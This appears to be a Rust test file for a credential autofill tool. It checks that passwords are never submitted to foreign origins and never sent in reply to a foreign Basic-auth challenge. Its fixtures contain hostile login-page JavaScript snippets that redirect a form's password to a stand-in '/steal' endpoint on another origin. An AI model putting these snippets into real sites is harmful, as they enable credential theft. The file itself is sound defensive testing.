//! Pages that try to get the password to another origin. It hears every byte that comes there, and none is the password.
//!
//! What a page's own script does with what was typed, such as a `fetch` of the field's value, is the site's own doing and is
//! not tried here: who may be filled may read.

use jarkeeper::failure::FailureClass;

use super::{Fixture, PASSWORD, Reply, page, pass, passes, refuse, to, together};
use crate::support::run;

const FIELDS: &str = "<label>Username <input name=user autocomplete=username></label>\
    <label>Password <input name=password type=password></label>";

fn form(attributes: &str, rest: &str) -> String {
    format!("<h1>Sign in</h1><form id=f method=post {attributes}>{FIELDS}{rest}</form>")
}

/// A site whose login page has this body; a form like it is on every origin, and takes whatever comes.
fn site(body: String) -> Fixture {
    Fixture::new(move |desk, ask| match ask.line().as_str() {
        "GET /login" => page("Sign in", &body),
        "GET /steal" | "GET /frame" => {
            page("Sign in", &form("action=/steal", "<button>Log in</button>"))
        }
        "POST /steal" => page("Thank you", "<p>Thank you</p>"),
        "POST /login" => desk
            .enter(ask, "user", "password")
            .unwrap_or_else(|| page("Sign in", &body)),
        _ => desk.usual(ask),
    })
}

fn led_away(path: &'static str) -> Fixture {
    Fixture::new(move |desk, ask| match ask.line().as_str() {
        "GET /login" => to("%FOREIGN%/steal"),
        "GET /steal" => page("Sign in", &form(path, "<button>Log in</button>")),
        _ => desk.usual(ask),
    })
}

#[test]
fn no_other_origin_gets_the_password() {
    let button = "<button id=b>Log in</button>";
    let script = |code: &str| format!("{button}<script>{code}</script>");
    let elsewhere = |name, body: String| refuse(name, site(body), FailureClass::RecipeWrong, 0);
    together([
        refuse("led away", led_away("action=/steal"), FailureClass::RecipeWrong, 0),
        refuse(
            "led away, and the form leads back",
            led_away("action=%BASE%/login"),
            FailureClass::RecipeWrong,
            0,
        ),
        refuse(
            "foreign frame",
            site("<iframe src=%FOREIGN%/frame width=500 height=300></iframe>".to_owned()),
            FailureClass::FormNotFound,
            0,
        ),
        elsewhere("posts elsewhere", form("action=%FOREIGN%/steal", button)),
        elsewhere(
            "the button posts elsewhere",
            form("action=/login", "<button formaction=%FOREIGN%/steal>Log in</button>"),
        ),
        elsewhere(
            "changed while it is typed",
            form(
                "action=/login",
                &script("f.oninput = () => { if (f.password.value) f.action = '%FOREIGN%/steal' }"),
            ),
        ),
        elsewhere(
            "changed by the button",
            form(
                "action=/login",
                &script("b.onmousedown = () => { f.action = '%FOREIGN%/steal' }"),
            ),
        ),
        elsewhere(
            "changed by the submission",
            form(
                "action=/login",
                &script("f.addEventListener('submit', () => { f.action = '%FOREIGN%/steal' })"),
            ),
        ),
        elsewhere(
            "changed by the last listener",
            form(
                "action=/login",
                &script(
                    "b.onclick = () => window.addEventListener('submit', () => { f.action = '%FOREIGN%/steal' })",
                ),
            ),
        ),
        elsewhere(
            "submitted by a script",
            form(
                "action=/login",
                "<button type=button id=b>Log in</button>
                <script>b.onclick = () => { f.action = '%FOREIGN%/steal'; f.submit() }</script>",
            ),
        ),
        elsewhere(
            "submitted by a script into a new form",
            form(
                "action=/login",
                "<button type=button id=b>Log in</button><script>b.onclick = () => {
                const g = document.createElement('form'); g.method = 'post'; g.action = '%FOREIGN%/steal';
                g.append(f.password); document.body.append(g); g.submit() }</script>",
            ),
        ),
        elsewhere(
            "submitted into the address",
            form(
                "action=/login",
                "<button type=button id=b>Log in</button>
                <script>b.onclick = () => { f.method = 'get'; f.action = '%FOREIGN%/steal'; f.submit() }</script>",
            ),
        ),
        pass(
            "beside a foreign frame",
            site(format!(
                "<iframe src=%FOREIGN%/frame width=500 height=300></iframe>{}",
                form("action=/login", button)
            )),
        ),
    ]);
}

#[test]
fn a_part_of_another_origin_that_asks_for_a_password_gets_none() {
    let body = format!(
        "<img src=%FOREIGN%/picture width=9 height=9>{}",
        form("action=/login", "<button>Log in</button>")
    );
    let fixture = Fixture::new(move |desk, ask| match ask.line().as_str() {
        "GET /login" => page("Sign in", &body),
        "POST /login" => desk
            .enter(ask, "user", "password")
            .unwrap_or_else(|| page("Sign in", &body)),
        "GET /picture" => Reply::header(
            page("Who are you", "").status(401),
            "www-authenticate",
            "Basic realm=\"pictures\"",
        ),
        _ => desk.usual(ask),
    });
    run(async {
        let (running, _) = passes("picture", fixture, "").await;
        let log = running.desk.log();
        let asked: Vec<_> = log.iter().filter(|ask| ask.path == "/picture").collect();
        assert!(!asked.is_empty());
        for ask in asked {
            assert_eq!(ask.header("authorization"), "");
        }
        assert_eq!(running.desk.carrying(PASSWORD).len(), 1);
    });
}
